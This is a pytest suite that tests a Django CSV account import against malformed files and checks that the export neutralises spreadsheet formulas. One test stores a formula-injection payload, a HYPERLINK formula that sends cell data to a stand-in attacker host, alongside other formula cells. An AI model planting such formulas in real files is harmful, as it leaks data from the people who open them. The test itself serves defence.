"""The account import (accounts_app/imports/accounts.py) fed the corpus's malformed files through
the admin's upload, preview and confirmation: each file is refused as a whole with what to do, or
its bad rows are named by line and column and nothing of it is imported until ops choose; what
is imported is stored as written and exported neutralised."""

import csv
import io

import pytest

from accounts_app.models import Account, CsvImport, ImportState
from core.text import MAX_TEXT
from tests.accounts_app.csv_import import EXPORT_URL, HEADER
from tests.bad_input.conftest import corpus
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db

NOTHING = "Nothing was imported from this file."


@pytest.fixture
def existing(db):
    """One account already in Accord: a refused file must leave it, and only it."""
    return AccountFactory(name="Umbrella", domain="umbrella.example")


def assert_nothing_imported(existing) -> None:
    assert list(Account.objects.values_list("domain", flat=True)) == [existing.domain]


def problems_of(preview) -> list[str]:
    return preview.context["error_lines"]


# --- Files refused as a whole ------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("latin1_c1_controls.csv", id="latin-1 with bytes windows-1252 lacks"),
        pytest.param("shift_jis.csv", id="shift-jis"),
        # Every byte of this one is valid Windows-1252: it must not import as mojibake.
        pytest.param("shift_jis_readable_as_windows_1252.csv", id="shift-jis, no odd byte"),
        pytest.param("binary_garbage.bin", id="binary garbage"),
    ],
)
def test_a_file_in_an_encoding_accord_does_not_read_is_refused(ops, upload, existing, name):
    page = upload(ops, corpus(name), name=name)

    assert page.status_code == 200
    assert page.context["csv_import"].state == ImportState.FAILED
    text = page.content.decode()
    assert "Save the file as UTF-8 CSV" in text
    assert NOTHING in text
    assert_nothing_imported(existing)


def test_a_utf16_file_with_a_byte_order_mark_is_read(ops, upload, confirm, existing):
    preview = upload(ops, corpus("utf16_bom.csv"))

    assert preview.context["csv_import"].state == ImportState.CHECKED
    confirm(ops, preview)
    assert Account.objects.get(domain="unicode.example").name == "Ünïcödé GmbH"
    assert Account.objects.get(domain="toyota.example").name == "株式会社トヨタ"


@pytest.mark.parametrize(
    "name, message",
    [
        ("missing_columns.csv", "the file has no domain column"),
        ("extra_columns.csv", "unknown column &#x27;favourite_colour&#x27;"),
        ("header_only.csv", "The file has a header line but no account"),
        ("blank_lines_only.csv", "The file is empty: it needs a header line"),
    ],
)
def test_a_file_without_the_columns_or_rows_it_needs_is_refused(
    ops, upload, existing, name, message
):
    page = upload(ops, corpus(name))

    assert page.context["csv_import"].state == ImportState.FAILED
    text = page.content.decode()
    assert message in text
    assert NOTHING in text
    assert "Confirm import" not in text
    assert_nothing_imported(existing)


def test_an_empty_file_is_refused_before_it_is_stored(ops, upload, existing):
    page = upload(ops, corpus("empty.csv"))

    assert page.status_code == 400
    assert "The submitted file is empty." in page.content.decode()
    assert not CsvImport.objects.exists()
    assert_nothing_imported(existing)


def test_a_cell_beyond_the_csv_readers_limit_is_refused_with_its_line(ops, upload, existing):
    page = upload(ops, HEADER + "Fine,fine.example,,,,,,,,\n" + "x" * 200_000 + ",big.example\n")

    assert page.context["csv_import"].state == ImportState.FAILED
    assert "line 3: this is not a CSV file Accord can read" in page.content.decode()
    assert_nothing_imported(existing)


# --- Files with bad rows: each named, nothing imported unless ops choose the valid ones -----------


def test_duplicate_domains_are_refused_on_the_later_lines(ops, upload, confirm, existing):
    preview = upload(ops, corpus("duplicate_domains.csv"))

    assert problems_of(preview) == [
        "line 3, column domain: globex.example is already on line 2 of this file; each account "
        "may appear only once.",
        "line 4, column domain: globex.example is already on line 2 of this file; each account "
        "may appear only once.",
    ]
    refused = confirm(ops, preview)
    assert refused.status_code == 400
    assert "Nothing was imported: the file has errors." in refused.content.decode()
    assert_nothing_imported(existing)

    confirm(ops, preview, valid_rows_only=True)
    assert Account.objects.get(domain="globex.example").name == "Globex"
    assert Account.objects.count() == 3


def test_a_row_with_more_cells_than_the_header_is_refused(ops, upload, existing):
    preview = upload(ops, corpus("extra_cells.csv"))

    assert problems_of(preview) == ["line 2: this line has 11 cells but the header has 10 columns."]
    assert_nothing_imported(existing)


def test_a_quoted_line_break_in_a_one_line_field_is_refused_by_line_and_column(
    ops, upload, confirm, existing
):
    preview = upload(ops, corpus("quoted_newline.csv"))

    assert problems_of(preview) == [
        "line 2, column name: The company's name must be on one line: remove the line breaks, "
        "tabs and other control characters.",
        "line 4, column industry: The industry must be on one line: remove the line breaks, "
        "tabs and other control characters.",
    ]
    confirm(ops, preview, valid_rows_only=True)
    assert list(Account.objects.order_by("domain").values_list("domain", flat=True)) == [
        "fine.example",
        existing.domain,
    ]


@pytest.mark.parametrize(
    "column, length, limit",
    [
        ("name", 201, 200),
        ("name", MAX_TEXT + 1, 200),
        ("industry", 101, 100),
        ("region", MAX_TEXT * 5, 50),
    ],
)
def test_a_field_longer_than_the_model_holds_is_refused(
    ops, upload, existing, column, length, limit
):
    cells = {"name": "Long Corp", "domain": "long.example", column: "x" * length}
    row = ",".join(cells.get(c, "") for c in HEADER.strip().split(","))

    preview = upload(ops, HEADER + row + "\n")

    assert problems_of(preview) == [
        f"line 2, column {column}: {length} characters is too long; at most {limit} fit."
    ]
    assert_nothing_imported(existing)


def test_a_domain_longer_than_a_domain_can_be_is_refused(ops, upload, existing):
    preview = upload(ops, HEADER + f"Long Corp,{'a' * 300}.example,,,,,,,,\n")

    (problem,) = problems_of(preview)
    assert problem.startswith("line 2, column domain: ")
    assert_nothing_imported(existing)


# --- Formula cells: stored as written, exported neutralised ---------------------------------------


def test_formula_cells_are_stored_as_written_and_exported_neutralised(
    ops, upload, confirm, existing
):
    preview = upload(ops, corpus("formulas.csv"))
    assert preview.context["csv_import"].state == ImportState.CHECKED
    confirm(ops, preview)

    stored = {
        a.domain: (a.name, a.industry, a.region)
        for a in Account.objects.filter(domain__startswith="formula")
    }
    assert stored == {
        "formula1.example": ('=HYPERLINK("http://evil.example/?x="&A1;"Click")', "Software", ""),
        "formula2.example": ("+1+1", "-2+3", "@SUM(A1:A9)"),
        "formula3.example": ("@cmd", "=1+1", ""),
        "formula4.example": ("-Minus Corp", "", ""),
    }

    fields = ["name", "domain", "industry", "region"]
    response = ops.post(
        EXPORT_URL,
        {"resource": "0", "format": "0", **{f"accountresource_{f}": "on" for f in fields}},
    )
    assert response.status_code == 200
    exported = {
        row["domain"]: (row["name"], row["industry"], row["region"])
        for row in csv.DictReader(io.StringIO(response.content.decode()))
    }
    assert exported["formula1.example"][0] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Click")'
    assert exported["formula2.example"] == ("'+1+1", "'-2+3", "'@SUM(A1:A9)")
    assert exported["formula3.example"] == ("'@cmd", "'=1+1", "")
    assert exported["formula4.example"][0] == "'-Minus Corp"


def test_an_unterminated_quote_is_refused_on_its_line(ops, upload, existing):
    # The quote runs to the end of the file: one cell spanning every line after it.
    preview = upload(ops, corpus("unterminated_quote.csv"))

    assert problems_of(preview) == [
        "line 2, column name: The company's name must be on one line: remove the line breaks, "
        "tabs and other control characters.",
        "line 2, column domain: the domain is empty; every account needs one, e.g. example.com.",
    ]
    assert_nothing_imported(existing)


def test_windows_1252_french_is_still_read_as_windows_1252(ops, upload, confirm, existing):
    text = HEADER + "Société Générale,societe.example,Défense & Sécurité,,,FR,EMEA,,,\r\n"

    preview = upload(ops, text.encode("cp1252"))

    assert preview.context["csv_import"].state == ImportState.CHECKED
    confirm(ops, preview)
    assert Account.objects.get(domain="societe.example").industry == "Défense & Sécurité"
